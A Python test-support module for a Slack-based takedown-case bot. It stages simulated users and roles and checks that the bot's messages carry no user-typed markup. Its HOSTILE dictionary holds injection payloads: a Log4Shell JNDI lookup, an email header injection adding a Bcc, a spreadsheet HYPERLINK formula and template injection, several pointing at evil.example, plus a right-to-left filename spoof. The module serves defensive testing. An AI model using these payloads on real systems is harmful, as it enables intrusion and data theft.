"""A desk in its own Slack, people who misuse it, and a look at everything they could have left behind."""

from __future__ import annotations

import re
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass, field
from datetime import timedelta
from itertools import count
from typing import Any

from sqlmodel import func, select

from bot.commands.local_desk import LocalDesk, local_desk
from bot.commands.pictures import capture_of
from bot.commands.seeding import FACTS, ROLES, Cast, cast
from bot.simulator.person import Person, shown_text
from storage.models import (
    Approval,
    Case,
    DigestSubscription,
    Effect,
    Event,
    Evidence,
    Item,
    Matter,
    Member,
    Notice,
    RoleGrant,
    Workspace,
)
from storage.vocabulary import EffectKind, EventKind

Json = dict[str, Any]

# All these tests share one worker, which may have much to show before it comes to what a test waits for.
PATIENCE = 40.0
STRANGER_ID = "U0VICTIM99"
MENTION = f"<@{STRANGER_ID}>"
HOSTILE = {
    "mentions": f"<!channel> <!here|here> {MENTION} <!subteam^S0TEAM> <#C0ELSE|else>",
    "markup": "*bold* _it_ ~gone~ `code` ```block``` > quote <http://evil.example|bank.example>",
    "entities": "&lt;!channel&gt; &amp; &#60;!here&#62;",
    "right-to-left": "invoice\u202egpj.exe \u2066hidden\u2069",
    "nul": "before\x00after\x07",
    "formula": '=HYPERLINK("http://evil.example","x")',
    "header": "Subject\r\nBcc: everyone@evil.example",
    "emoji": "😀👩\u200d👩\u200d👧" * 20,
    "long": "word " * 600,
    "unbroken": "x" * 3000,
    "template": "{{ 7*7 }} {% include 'x' %} ${jndi:ldap://evil.example} %s %n",
}
_RAW = re.compile(r"<!(?:channel|here|everyone|subteam)|<@U0VICTIM99|<#C0ELSE|<http://evil", re.IGNORECASE)
_STORED = (Matter, Case, Item, Notice, Approval, Evidence, RoleGrant, DigestSubscription)
_OUTWARD = (EffectKind.SEND_DIRECT, EffectKind.SEND_EMAIL, EffectKind.SENT_BY_HAND)


@dataclass
class Stage:
    """The desk, its people, and its home channel."""

    desk: LocalDesk
    people: Cast
    nell: Person
    home: str
    _numbers: Iterator[int] = field(default_factory=lambda: count(100))
    _looked_at: set[tuple[str, str]] = field(default_factory=set)

    def say(self, person: Person, text: str) -> str:
        """Type a command and return everything that its answer shows."""
        answer = person.command(text, self.home)
        assert answer is not None, text
        assert answer["ephemeral"]
        return shown_text(answer)

    def form(self, person: Person, command: str) -> Json:
        """Type a command that opens a modal."""
        assert person.command(command, self.home) is None
        return person.views()[-1]

    def case(self, *, on: str = "x") -> str:
        """File a new account and return its case's key."""
        number = next(self._numbers)
        host = self.desk.town.chirp.public_url if on == "chirp" else "https://x.com"
        url = f"{host}/@acct{number}/{number}" if on == "chirp" else f"{host}/acct{number}/status/{number}"
        rita = self.people.rita
        rita.submit(self.form(rita, "/takedown file"), matter="NLP", urls=url)
        said = shown_text(rita.views()[-1])
        rita.close_view(rita.views()[-1], whole_stack=True)
        return re.findall(r"NLP-\d+", said)[0]

    def see(self, person: Person, key: str) -> Json:
        """Return a case as it is shown to a person now, with the buttons that are theirs."""
        answer = person.command(f"/takedown case {key}", self.home)
        assert answer is not None
        return answer

    def card(self, key: str) -> Json:
        """Wait for a case's card in its channel and return it."""

        def found() -> Json | None:
            shown = [each for each in self.people.rita.messages(self.home) if not each["ephemeral"]]
            return next((each for each in shown if shown_text(each).startswith(f"{key} ·")), None)

        return self.people.rita.wait_for(found, PATIENCE)

    def press(self, person: Person, key: str, label: str) -> Json:
        """Press a button of a case and return the modal that opens."""
        place = self.see(person, key)
        person.click(place, label)
        return person.views()[-1]

    def approved(self, *, on: str = "x") -> str:
        """Return the key of a case whose warning is approved; Rita wrote it, Rob approved."""
        key = self.case(on=on)
        self.people.rita.submit(self.press(self.people.rita, key, "Request approval"))
        self.people.rob.submit(self.press(self.people.rob, key, "Approve"))
        return key

    def warned(self) -> str:
        """Return the key of a case whose person was asked by hand."""
        key = self.approved()
        form = self.press(self.people.rita, key, "I sent it")
        answer = self.people.rita.submit(form, reference="https://x.com/messages/77")
        assert answer["response_action"] == "clear", answer
        return key

    def shown_items(self, key: str) -> None:
        """Give a case's item evidence, and wait until it is kept."""
        rita = self.people.rita
        path = self.desk.folder / "capture.png"
        path.write_bytes(capture_of("capture"))
        rita.submit(self.press(rita, key, "Add evidence"), files=[rita.upload(path)])
        rita.wait_for(lambda: "Evidence is missing" not in shown_text(self.see(rita, key)), PATIENCE)

    def is_known(self, person: Person) -> bool:
        """Whether the desk has heard from Slack who somebody is: nobody else decides."""
        with self.desk.process.store.read() as session:
            found = session.exec(select(Member).where(Member.user_id == person.id)).first()
            return found is not None

    def move(self, **step: int) -> None:
        self.desk.town.move_time(timedelta(**step))

    def counts(self) -> dict[str, int]:
        """Return how many rows there are of everything people decide, and how many events but attempts."""
        with self.desk.process.store.read() as session:
            found = {
                model.__name__: session.exec(select(func.count()).select_from(model)).one() for model in _STORED
            }
            happened = select(func.count()).where(Event.kind != EventKind.ATTEMPT_REFUSED)
            found["Event"] = session.exec(happened.select_from(Event)).one()
            found["paused"] = sum(row.paused_at is not None for row in session.exec(select(Workspace)))
            found["outward"] = len([row for row in session.exec(select(Effect)) if row.kind in _OUTWARD])
        return found

    def attempts(self) -> int:
        """Return how many attempts to do something forbidden are on record."""
        with self.desk.process.store.read() as session:
            wanted = select(func.count()).where(Event.kind == EventKind.ATTEMPT_REFUSED)
            return session.exec(wanted.select_from(Event)).one()

    @contextmanager
    def nothing_changes(self) -> Iterator[None]:
        """Fail if what happens inside is stored or sent."""
        before, outside = self.counts(), self.outside()
        yield
        assert self.counts() == before
        assert self.outside() == outside

    def outside(self) -> int:
        """Return how many letters reached the outside world."""
        return len(self.desk.town.mailbox.messages())

    def messages(self) -> list[Json]:
        """Return every message of the bot since the last look, wherever it stands and whoever alone sees it."""
        state = self.desk.town.slack._core.state
        found = [m for channel in list(state.channels.values()) for m in list(channel.messages.values())]
        new = [m for m in found if m.bot and (m.ts, m.text) not in self._looked_at]
        self._looked_at |= {(m.ts, m.text) for m in new}
        return [{"text": message.text, "blocks": message.blocks} for message in new]

    def behaves(self) -> None:
        """Fail if Slack refused anything, or if a message holds markup that somebody typed."""
        assert self.desk.town.slack.refused == []
        for message in self.messages():
            for text in markup_of(message):
                assert not _RAW.search(text), text
                assert not re.search(r"[\x00-\x08\u202a-\u202e\u2066-\u2069]", text), text
            assert message["blocks"], message["text"]
            for block in mrkdwn_of(message["blocks"]):
                assert block.get("verbatim") is True, block


def markup_of(message: Json) -> list[str]:
    """Return the texts of a message that Slack reads as markup."""
    return [message["text"], *(block["text"] for block in mrkdwn_of(message["blocks"]))]


def mrkdwn_of(node: Any) -> list[Json]:
    if isinstance(node, list):
        return [found for each in node for found in mrkdwn_of(each)]
    if not isinstance(node, dict):
        return []
    own = [node] if node.get("type") == "mrkdwn" else []
    return own + [found for each in node.values() for found in mrkdwn_of(each)]


def errors_of(answer: Json) -> dict[str, str]:
    """Return the sentences at the fields of a form that was not taken."""
    assert answer["response_action"] == "errors", answer
    found: dict[str, str] = answer["errors"]
    return found


@contextmanager
def staged() -> Iterator[Stage]:
    """Run the desk, without Slack's rates, with its matter and its people, and with Nell, who has no role."""
    with ExitStack() as stack:
        desk = stack.enter_context(local_desk(rates={}))
        slack = desk.town.slack
        nell = slack.add_user("nell", "Nell Ames", tz="Europe/Berlin")
        home = slack.channel_named("takedowns") or ""
        slack.add_member(home, nell)
        people = cast(desk)
        for person in vars(people).values():
            stack.enter_context(person)
        stage = Stage(
            desk, people, stack.enter_context(Person(desk.url, nell, rest=desk.town.slack.watch())), home
        )
        _settle(stage)
        yield stage


def _settle(stage: Stage) -> None:
    for name, role in ROLES:
        stage.say(stage.people.ada, f"/takedown roles add @{name} {role}")
    form = stage.form(stage.people.ada, "/takedown matter new")
    stage.people.ada.submit(
        form,
        key="NLP",
        title="The Northlight leak",
        client="Northlight Pictures",
        facts=FACTS,
        ground="private_info",
        channel=stage.home,
    )
    people = (*vars(stage.people).values(), stage.nell)
    stage.nell.home()
    stage.nell.wait_for(lambda: all(stage.is_known(person) for person in people), PATIENCE)
    rita = stage.people.rita
    rita.wait_for(lambda: "NLP" in stage.say(rita, "/takedown matter list"), PATIENCE)
